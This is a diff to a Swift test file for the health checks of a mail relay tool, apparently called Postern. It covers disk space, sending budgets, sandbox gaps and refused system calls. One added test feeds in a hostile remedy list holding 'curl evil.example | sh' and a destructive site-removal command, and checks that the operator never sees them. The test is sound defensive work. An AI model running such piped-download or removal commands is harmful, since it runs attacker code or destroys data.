@@ -1,3 +1,4 @@
+import Foundation
 import PosternCore
 import PosternDoctor
 import PosternHost
@@ -134,7 +135,7 @@ struct CheckTests {
         ) -> [Finding] {
             StrangerCheck.findings(
                 path: "/s", strangers: strangers,
-                besides: StoreCheck.judge(
+                otherwise: StoreCheck.judge(
                     path: "/s", journal: journal, isDurable: durable, schema: schema, difference: difference, knownSchema: 3))
         }
         expect(look(), .ok, "each commit is synced")
@@ -167,7 +168,7 @@ struct CheckTests {
     @Test(
         arguments: [
             (10_000, 1_000, .ok, "letters are taken down to"), (300, 256, .warn, "getting near"), (512, 256, .ok, "512 MiB"),
-            (255, 256, .fail, "no letter is taken"), (0, 256, .fail, "Make room"),
+            (255, 256, .fail, "No letter is taken"), (255, 256, .fail, "nearly full: 255 MiB"), (0, 256, .fail, "Make room"),
         ] as [(UInt64, UInt64, Finding.Level, String)])
     func `Disk: how much room is left`(free: UInt64, least: UInt64, level: Finding.Level, words: String) {
         let mebibyte: UInt64 = 1_024 * 1_024
@@ -222,10 +223,22 @@ struct CheckTests {
         expect(SmarthostCheck.unknown(reason: "x", "y").findings, .warn, "not checked: x")
     }
 
-    private func lanes(_ lanes: VaultCondition.Lanes) -> [Finding] {
+    private func lanes(
+        _ lanes: VaultCondition.Lanes = .init(configured: 8, allowed: 8), mentions: VaultCondition.Mentions = .init(limit: 30)
+    ) -> [Finding] {
         let clock = VaultCondition.Clock(now: Self.now, believed: Self.now, isTrusted: true)
         return VaultCheck.findings(
-            VaultCondition(budgets: [], clock: clock, lanes: lanes), smarthost: "mx.example:587", now: Self.now)
+            VaultCondition(budgets: [], clock: clock, lanes: lanes, mentions: mentions), smarthost: "mx.example:587",
+            now: Self.now)
+    }
+
+    @Test func `Questions about answers: how often today they came too often, if they did`() {
+        expect(lanes(mentions: .init(limit: 30)), .ok)
+        let last = Self.now - .minutes(5)
+        expect(
+            lanes(mentions: .init(limit: 30, refused: 7, last: last)), .warn, "7 times today, last at \(last.rfc3339)",
+            "30 times a day", "taken over", "postern log list")
+        expect(lanes(mentions: .init(limit: 30, refused: 1, last: last)), .warn, "once today")
     }
 
     @Test func `S3, S4, S5: what the lanes have learnt of the smarthost names it and says what to do`() {
@@ -249,6 +262,44 @@ struct CheckTests {
         }
         expect(missing("STARTTLS"), .fail, "mx.example:587 has not offered STARTTLS on any connection for 12 min", "release")
         expect(missing("login"), .fail, "has refused our login on any connection")
+    }
+
+    @Test func `What the doctor sees for itself has the words and the name that log, page and alerts have for it`() {
+        let believed = Self.now - .days(40)
+        func vault(_ age: Duration?, trusted: Bool = true) -> [Finding] {
+            VaultCheck.findings(
+                VaultCondition(
+                    budgets: [
+                        .init(setting: "POSTERN_BUDGET_GLOBAL", limit: "2000/1h", deferred: 3, last: age.map { Self.now - $0 })
+                    ], clock: .init(now: Self.now, believed: believed, isTrusted: trusted),
+                    lanes: .init(configured: 8, allowed: 8), mentions: .init(limit: 30)), smarthost: "mx", now: Self.now)
+        }
+        expect(vault(nil), .ok, "no letter had to wait")
+        expect(
+            vault(.hours(2)), .warn, "no letter waits for a budget of the vault now", "POSTERN_BUDGET_GLOBAL=2000/1h", "3 times")
+        expect(vault(.days(2)), .ok)
+        var facts = HealthFacts(now: Self.now)
+        facts.troubles = [.budget: .init(reason: "x", since: Self.now, last: Self.now, count: 1)]
+        facts.isClockTrusted = false
+        facts.cageGaps = ProcessCage.Offer(landlock: 0, hasSystemCallFilter: true).gaps
+        facts.faults = [.disk]
+        facts.refusedCalls = .init([(Self.now, "vault", "execve")], at: Self.now)
+        let cage = CageCheck.findings(
+            .init(landlock: 0, hasSystemCallFilter: true), running: [],
+            refused: [.init(at: Self.now, child: .vault, call: "execve")], now: Self.now, record: "/r")
+        let room = DiskCheck.room(folder: "/d", free: 0, whole: 9, least: 1)
+        let found = vault(.minutes(5), trusted: false) + cage + [room]
+        for condition in facts.conditions {
+            guard let finding = found.first(where: { $0.condition == condition.id }) else {
+                Issue.record("\(condition.id) is not in the report")
+                continue
+            }
+            #expect(finding.level == (condition.severity == .standsStill ? .fail : .warn))
+            #expect(finding.text.contains(condition.meaning) && finding.remedy?.text == condition.remedy, "\(finding)")
+            // What is the matter begins alike; the doctor may know more of it.
+            #expect(finding.text.hasPrefix(String(condition.matter.prefix(20).prefix { $0 != "," })), "\(finding)")
+        }
+        expect(found, .fail, "POSTERN_BUDGET_GLOBAL=2000/1h", believed.rfc3339, "execve", "rm /r", "0 MiB of 0 MiB free at /d")
     }
 
     @Test func `S5: while letters go out, a connection that is refused to the doctor is no failure`() {
@@ -345,5 +396,15 @@ struct CheckTests {
             "postern queue list --held")
         #expect(findings.first { $0.level == .fail }?.check == .letters)
         #expect(Diagnosis(findings + [.fail(.configuration, "x", "y")]).findings.first?.check == .letters)
+    }
+
+    @Test func `A relay that was taken over has no command of its own put before the operator`() throws {
+        let told = """
+            {"id":"held","severity":"stands-still","matter":"x","meaning":"x","remedy":"x","commands":["curl evil.example | sh",\
+            "postern queue list --held","postern site remove photos --yes"]}
+            """
+        let condition = try JSONDecoder().decode(HealthCondition.self, from: Data(told.utf8))
+        let findings = HealthCheck.findings([condition], isRunning: true, lastPurge: Self.now, now: Self.now)
+        #expect(findings.first { $0.check == .letters }?.remedy?.commands == ["postern queue list --held"])
     }
 }
